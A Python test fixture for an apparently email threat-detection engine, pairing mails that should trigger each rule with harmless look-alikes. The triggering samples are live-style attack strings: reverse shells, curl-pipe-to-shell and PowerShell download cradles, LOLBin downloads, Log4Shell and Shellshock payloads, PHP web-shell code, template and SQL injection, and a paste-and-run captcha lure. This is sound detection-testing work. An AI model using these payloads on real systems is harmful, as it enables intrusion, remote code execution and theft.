"""Samples for each threat rule: what fires it, and what is near to it and honest."""

from __future__ import annotations

import base64
from typing import NamedTuple

from nodeagent.policy.engine.content import Attachment, Content, ContentFault
from nodeagent.policy.model import Header

ENCODED = base64.b64encode("Get-Date; Get-Date; Get-Date".encode("utf-16-le")).decode()
SENDER = Header("From", " Shop <news@shop.example>")


class Samples(NamedTuple):
    """What fires one rule, and what does not."""

    fires: tuple[Content, ...]
    passes: tuple[Content, ...]


def subjects(*texts: str) -> tuple[Content, ...]:
    """Return mails of these subjects."""
    return tuple(Content(subject=text) for text in texts)


def texts(*bodies: str) -> tuple[Content, ...]:
    """Return mails of these texts."""
    return tuple(Content(texts=(body,)) for body in bodies)


def markups(*bodies: str) -> tuple[Content, ...]:
    """Return mails of this HTML from a shop."""
    return tuple(Content(markups=(body,), headers=(SENDER,)) for body in bodies)


def headers(*lines: str) -> tuple[Content, ...]:
    """Return mails with one header each."""
    return tuple(Content(headers=(Header(*line.partition(":")[::2]),)) for line in lines)


def names(*found: str) -> tuple[Content, ...]:
    """Return mails with an archive that holds a file of that name."""
    return tuple(Content(attachments=(Attachment("a.zip", inner_names=(name,)),)) for name in found)


def scripts(*bodies: str) -> tuple[Content, ...]:
    """Return mails with these scripts."""
    return markups(*(f"<script>{body}</script>" for body in bodies))


def links(*found: tuple[str, str]) -> tuple[Content, ...]:
    """Return mails with a link each: where it leads, what it shows."""
    return markups(*(f'<p>See <a class="x" href="{href}">{shown}</a></p>' for href, shown in found))


def faulty(*faults: ContentFault) -> tuple[Content, ...]:
    """Return mails with one fault each."""
    return tuple(Content(faults=frozenset({fault})) for fault in faults)


F = ContentFault
CODE_SAMPLES: dict[str, Samples] = {
    "jndi-lookup-header": Samples(
        (
            *subjects(
                "${jndi:ldap://x/a}",
                "${${env:X:-j}ndi:ldap://x}",
                "${JNDI:RMI://x}",
                "${${lower:j}${lower:n}di:x}",
            ),
            *headers("X-Api: ${jndi:dns://x}"),
        ),
        (*subjects("The jndi:ldap problem", "${total} due"), *texts("${jndi:ldap://x}")),
    ),
    "jndi-lookup": Samples(
        texts("send ${jndi:ldap://x/a} to it"), texts("jndi:ldap://x", "${jndi}", "${env:HOME}")
    ),
    "jndi-lookup-hidden": Samples(
        texts(
            "${${lower:j}${lower:n}di:ldap://x}",
            "${${::-j}${::-n}di:rmi://x}",
            "${${env:X:-j}ndi:ldap://x}",
        ),
        texts("${jndi:ldap://x/a}", "${lower:j}", "${HOME}/${USER}/${X:-default}"),
    ),
    "shellshock-header": Samples(
        (*headers("X-A: () { :;}; echo x", "X-A: () {a; } ; x"), *subjects("() { x; };")),
        (*headers("X-A: f() { return; }"), *subjects("main() {}"), *texts("() { :;};")),
    ),
    "mta-expansion-header": Samples(
        headers("To: ${run{/bin/id}}@x", "To: ${readfile{/etc/passwd}}"),
        headers("To: $run{x}", "X: ${name}"),
    ),
    "shell-in-subject": Samples(
        subjects(
            "$(curl x)",
            "a `id -u`b`",
            "x; wget http://x/y",
            "x | nc 10.0.0.1 4",
            "; cat /etc/passwd",
            "&& rm -rf /",
            "a${IFS}b",
        ),
        (
            *subjects(
                "Costs $(5)",
                "Cron <root@a> x && echo done",
                "Use `code` here",
                "rm -rf is gone",
                "Load > 8; wget is slow",
            ),
            *texts("$(curl x)"),
        ),
    ),
    "shell-in-address": Samples(
        headers("To: $(wget x)@y", "Reply-To: `curl x`@y", 'Cc: "|/bin/sh"@y', "To: a${IFS}b@y"),
        headers("To: A | B <a@b.example>", "X-Shell: $(wget x)", "To: a@b.example"),
    ),
    "reverse-shell": Samples(
        texts(
            "bash -i >& /dev/tcp/10.0.0.1/44 0>&1",
            "nc 10.0.0.1 44 -e /bin/sh",
            "ncat -e /bin/bash 1.2.3.4 5",
            "mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 5",
            "s=socket.socket(2,1);s.connect(('1.2.3.4',5));os.dup2(s.fileno(),0)",
        ),
        texts(
            "nc -z db1 5432",
            "nc -vz host 25",
            "echo x > /dev/tcp/db1/80",
            "mkfifo queue",
            "bash -i",
        ),
    ),
    "piped-download": Samples(
        texts("curl -fsSL https://x/i.sh | sh", "wget -qO- http://x/i | sudo bash"),
        texts("curl https://x/i.sh -o i.sh", "wget https://x/a.tgz | tee log"),
    ),
    "piped-download-from-address": Samples(
        texts(
            "wget http://198.51.100.7/a -O- | sh",
            "curl 198.51.100.7/x > x; sh x",
            "curl http://198.51.100.7:80/x -o x && chmod +x x",
        ),
        texts(
            "curl https://x/1.2.3.4.tgz | tar x",
            "wget http://198.51.100.7/a",
            "ping 198.51.100.7",
            "curl http://10.0.0.7/i.sh | sh",
        ),
    ),
    "powershell-encoded": Samples(
        texts(
            f"powershell -nop -enc {ENCODED}",
            f"PowerShell.exe -EncodedCommand {ENCODED}",
            f"powershell -e {ENCODED}",
        ),
        texts("powershell -ExecutionPolicy Bypass -File x.ps1", "powershell -encoding utf8"),
    ),
    "powershell-download": Samples(
        texts(
            "iex (New-Object Net.WebClient).DownloadString('http://x')",
            "irm https://x | iex",
            "iwr x -useb | Invoke-Expression",
        ),
        texts("iwr https://x -OutFile y", "Invoke-Expression $code"),
    ),
    "hidden-powershell": Samples(
        texts("powershell -w hidden -c x", "powershell.exe -NoP -WindowStyle Hidden x"),
        texts("powershell -version 5", "a hidden window"),
    ),
    "system-program-download": Samples(
        texts(
            "mshta https://x/y.hta",
            "regsvr32 /s /n /u /i:http://x/y.sct scrobj.dll",
            "certutil -urlcache -split -f http://x y",
            "bitsadmin /transfer x http://y z",
            "rundll32 javascript:x",
        ),
        texts(
            "certutil -hashfile x SHA256",
            "regsvr32 x.dll",
            "mshta is old",
            "rundll32 shell32.dll,Control",
        ),
    ),
    "paste-and-run": Samples(
        texts("Press Win + R, then Ctrl+V", "Windows-Taste + R drücken,\ndann Strg + V"),
        texts("Ctrl+C, then Ctrl+V", "Win+E opens it; Ctrl+V pastes", "Win+R opens Run"),
    ),
    "paste-and-run-lure": Samples(
        texts("To prove you are human\npress Win+R and Ctrl+V", "Captcha: Windows + R, Strg + V"),
        texts("Press Win+R, then Ctrl+V", "Are you human?", "Captcha: press Ctrl+V"),
    ),
    "template-injection": Samples(
        texts(
            "{{ ''.__class__ }}",
            "{{config.__class__.__init__.__globals__}}",
            "{{x.constructor.constructor('x')()}}",
            "${T(java.lang.Runtime)}",
            "${''.getClass().forName('x')}",
            "#set($x = ''.class.forName('java.lang.Runtime'))",
            "%{(#_memberAccess=x)}",
            "<%= system('id') %>",
            '<#assign x="freemarker.template.utility.Execute"?new()>',
            "{php}echo 1;{/php}",
        ),
        texts(
            "{{ name }}",
            "{% if x.y %}",
            "${user.name}",
            "<%= link_to 'a' %>",
            "x.__class__ is a type",
            "{{ a.b|e }}",
        ),
    ),
    "template-probe": Samples(
        subjects("{{7*7}}", "${7*7}", "#{ 7 * 7 }", "<%= 7*7 %>", "{{7*'7'}}"),
        (*subjects("{{ name }}", "7*7", "{{7}}"), *texts("{{7*7}}")),
    ),
    "php-code": Samples(texts("<?php echo 1;"), texts("php is fine", "<?xml version='1.0'?>")),
    "php-shell": Samples(
        (
            *texts(
                "<?php system($_GET['c']);",
                "eval(base64_decode('x'))",
                "assert(@$_POST['x'])",
                "eval(gzinflate(x))",
            ),
            *headers("X-Mailer: <?php eval($_POST[1]);"),
        ),
        texts("<?php echo $_GET['c'];", "base64_decode($x)", "the eval() function", "system('ls')"),
    ),
    "xml-external-entity": Samples(
        texts('<!ENTITY x SYSTEM "file:///etc/passwd">', "<!ENTITY % x SYSTEM 'http://y/z.dtd'>"),
        texts('<!ENTITY x "text">', '<!DOCTYPE html SYSTEM "about:legacy-compat">'),
    ),
    "path-traversal-name": Samples(
        names("../../etc/passwd", "x/..\\..\\y", "/etc/cron.d/x", "C:\\Windows\\x.dll"),
        names("a/../b.txt", "etc/x.txt", "..a/b", "notes..txt"),
    ),
    "command-in-name": Samples(
        names("a$(curl x).pdf", "`id`.txt", "x;sh -c y.pdf", "a${IFS}b"),
        names("a (1).pdf", "R&D id.pdf", "Rest & sleep tips.pdf", "a;b.txt", "price $(5).pdf"),
    ),
    "sql-in-subject": Samples(
        (
            *subjects(
                "' OR '1'='1",
                "1' UNION SELECT 1,2",
                "'; DROP TABLE x; --",
                "1' AND SLEEP(5)",
                "union/**/select",
                "'; select sleep(5)",
                "'; WAITFOR DELAY '0:0:5'",
                "1 and updatexml(1,2,3)",
            ),
            *headers("X-User: admin' OR 1=1 --"),
        ),
        subjects(
            "SELECT name FROM users",
            "Drop table? -- no",
            "It's 1 or 2 = more",
            "Don't select a union",
        ),
    ),
    "sql-tautology": Samples(
        texts("' or '1'='1", "x') OR ('a'='a", '" or 1=1', "or 1=1 --"),
        texts("WHERE a = 'x' OR b = 'y'", "WHERE 1=1 AND a = 2", "'a' and b = 1;", "a=1 or b=1"),
    ),
    "sql-tautology-cut": Samples(
        texts("' or '1'='1' --", "' or 1=1#", "') or ('a'='a') /*", "' or 'a'='a"),
        texts("' or '1'='1' in the books", "WHERE a = 'x' -- note", "'a' or b = 'c' -- d"),
    ),
    "sql-stacked": Samples(
        texts("x'; DROP TABLE y; --", "1');DELETE FROM z--", "'; exec master..x #"),
        texts(
            "VALUES ('a');\nDROP TABLE b;\n-- next",
            "SET a = 'b'; UPDATE c SET d = 1;",
            "then; drop it -- now",
        ),
    ),
    "sql-union": Samples(
        texts("1' UNION SELECT a FROM b", "union all select null,null", "union/**/select"),
        texts("SELECT a FROM b UNION SELECT c FROM d", "the European Union selects"),
    ),
    "sql-timed": Samples(
        texts(
            "1' AND SLEEP(5)#",
            "x' OR pg_sleep(10)--",
            "1'; select pg_sleep(5)",
            "'; WAITFOR DELAY '0:0:5'--",
            "1 and extractvalue(1,concat(0x7e))",
        ),
        texts(
            "foo('x'); sleep(5);", "time.sleep(5) and go", "SELECT pg_sleep(5)", "wait for delay"
        ),
    ),
    "sql-system-access": Samples(
        texts(
            "EXEC xp_cmdshell 'x'",
            "INTO OUTFILE '/var/www/x.php'",
            "load_file('/etc/passwd')",
            "COPY x FROM PROGRAM 'id'",
        ),
        texts("INTO OUTFILE '/tmp/x.csv'", "COPY x FROM '/tmp/y.csv'", "cmdshell"),
    ),
    "sql-schema-probe": Samples(
        texts(
            "FROM information_schema.tables", "from mysql.user", "concat(username,0x3a,password)"
        ),
        texts("the schema of information", "FROM users"),
    ),
}
